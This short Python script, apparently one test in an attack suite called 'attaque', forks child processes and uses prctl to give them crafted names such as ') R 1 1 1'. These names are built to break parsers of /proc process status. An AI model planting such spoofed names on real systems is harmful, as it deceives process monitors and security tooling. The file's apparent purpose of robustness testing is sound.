from attaque import *

call()
import signal

for name in (b") R 1 1 1", b"a\n) Z 0 (b", b"\xff\xfe) S 1"):
    libc.prctl(15, name, 0, 0, 0)
    child = os.fork()
    if child == 0:
        libc.prctl(15, name, 0, 0, 0)
        signal.pause()
tried(29, "names")
